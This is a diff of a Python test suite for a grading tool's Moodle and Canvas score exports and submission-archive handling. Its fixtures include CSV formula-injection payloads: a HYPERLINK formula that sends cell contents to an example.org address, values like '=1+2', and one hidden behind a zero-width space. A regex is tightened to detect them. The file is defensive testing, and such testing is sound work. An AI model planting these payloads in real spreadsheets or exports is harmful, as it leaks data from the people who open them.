@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 import tarfile
 import zipfile
 from pathlib import Path
@@ -109,7 +110,7 @@ FORMULA = '=HYPERLINK("https://example.org/?"&A1, "Ada")'
 def test_no_spreadsheet_takes_a_field_for_a_formula(tmp_path: Path) -> None:
     """The files say the same as before to the platforms, which read no formulas."""
     course = a_class(tmp_path / "class", students=())
-    enter(course, dict.fromkeys(("ada", "eve", "=1+2", "-x"), (FORMULA, " +Last", 1.0)), before="@")
+    enter(course, dict.fromkeys(("ada", "eve", "=1+2", "-x"), (FORMULA, " +Last;\u200b=1", 1.0)), before="@")
     said = export(course, "Moodle")
     text = (course.folder / "moodle.csv").read_text(encoding="utf-8")
     assert platforms.imported_by_moodle({"ada", "eve"}, {NAME: MOST}, text).keys() == {"ada", "eve"}
@@ -124,7 +125,7 @@ def test_no_spreadsheet_takes_a_field_for_a_formula(tmp_path: Path) -> None:
     platforms.imported_by_canvas(canvas, upload)
     assert canvas.scores == {(3, 11): MOST - 0.25, (3, 12): MOST}
     for row in (*csv.reader(io.StringIO(text)), *csv.reader(io.StringIO(upload))):
-        assert not [field for field in row if field.strip()[:1] in {*"=+-@"}]
+        assert not [field for field in row if re.search(r"(^|;)[\s\u200b]*[=+@-]", field)]
 
 
 @pytest.fixture
@@ -237,7 +238,7 @@ OTHER = f"Ada Lovelace_51009_assignsubmission_file_/{FILE}"
 OF_MOODLE: list[platforms.Upload] = [
     ("Ada Lovelace", FILE, b"ada"),
     ("Ada Lovelace", f"{NAME} (1).ipynb", b"a copy"),
-    ("Ada Lovelace", "helpers.py", b"help"),
+    ("Ada Lovelace", "data.csv.gz", b"packed"),
     ("Ada Lovelace", "timestamp.txt", b"2020-01-01 00:00:00 UTC"),
     ("O'Brien Flann", f"{NAME} (1).ipynb", b"flann"),  # some sites show the last name first
     ("Ñandú, José María", f"{NAME}(2).ipynb", b"jose"),
@@ -252,7 +253,7 @@ def test_moodles_archive(course: ScratchCourse, folders: bool) -> None:
     platforms.archive_of_moodle(archive(course), OF_MOODLE, folders=folders)
     said = collect(course, "MoodleArchive")
     assert collected(course) == {
-        "ada": {FILE: b"ada", f"{NAME} (1).ipynb": b"a copy", "helpers.py": b"help"},
+        "ada": {FILE: b"ada", f"{NAME} (1).ipynb": b"a copy", "data.csv.gz": b"packed"},
         "o'brien": {FILE: b"flann"},
         "josé-ñ": {FILE: b"jose"},
         "0012345": {FILE: b"zero"},
@@ -324,7 +325,7 @@ OF_CANVAS: list[platforms.Upload] = [
     ("ADA", f"{NAME}-1.ipynb", b"ada, the second time"),
     ("ADA", f"{NAME}-2.ipynb", b"once more"),
     ("o'brien", FILE, b"flann"),
-    ("o'brien", "data-2.csv", b"1"),
+    ("o'brien", "1_2_data-2.csv", b"1"),
     ("o'brien", "timestamp.txt", b"2020-01-01 00:00:00 UTC"),
     ("jn12", FILE, b"jose"),
     ("0012345", "work.zip", zipped((f"x_11_7009_{FILE}", b"not Ada's"), (FILE, b"zero"))),
@@ -334,15 +335,17 @@ OF_CANVAS: list[platforms.Upload] = [
 
 def test_canvass_archive(course: ScratchCourse) -> None:
     canvas = canvas_course()
+    canvas.people[14]["name"] = "Aa_11"
+    canvas.people[16]["name"] = "Lovelace, Ada_11"
     platforms.archive_of_canvas(archive(course), canvas, OF_CANVAS, late=["jn12"])
     assert "There is no canvas.csv." in collect(course, "CanvasArchive", status=1)
     (course.folder / "canvas.csv").write_text(platforms.exported_by_canvas(canvas), encoding="utf-8")
     said = collect(course, "CanvasArchive")
     assert collected(course) == {
         "ada": {FILE: b"ada, the second time"},
-        "o'brien": {FILE: b"flann", "data-2.csv": b"1"},
+        "o'brien": {FILE: b"flann", "1_2_data-2.csv": b"1"},
         "josé-ñ": {FILE: b"jose"},
         "0012345": {FILE: b"zero", f"x_11_7009_{FILE}": b"not Ada's"},
     }
-    assert "Canvas's user 16 has no login or SIS id in canvas.csv that a student" in said
+    assert "It cannot be told whose 'lovelaceada_11_16_7008_traps.ipynb' is" in said
     assert "ada handed in more than one traps.ipynb; this one is left out" in said
